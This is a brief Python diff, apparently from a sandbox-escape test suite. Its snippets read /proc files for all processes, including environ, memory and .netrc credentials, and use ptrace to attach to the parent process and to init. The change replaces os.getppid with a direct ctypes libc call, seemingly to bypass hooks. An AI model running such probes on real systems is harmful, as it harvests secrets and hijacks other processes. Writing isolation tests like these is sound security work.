@@ -92,7 +92,7 @@ import os
 try:
     numbers = os.listdir("/proc")
 except OSError:
-    numbers = [str(os.getppid()), "1", "self"]
+    numbers = [str(__import__("ctypes").CDLL(None).getppid()), "1", "self"]
 for number in numbers:
     for name in ("environ", "cmdline", "maps", "mem", "cwd/.netrc", "root/etc/hostname", "stack"):
         tell_file(f"/proc/{number}/{name}")
@@ -107,7 +107,7 @@ import ctypes
 import os
 
 libc = ctypes.CDLL(None)
-parent = os.getppid()
+parent = __import__("ctypes").CDLL(None).getppid()
 for victim in (parent, 1, os.getpgid(0)):
     libc.ptrace(0x4206, victim, 0, 0)
     libc.ptrace(16, victim, 0, 0)
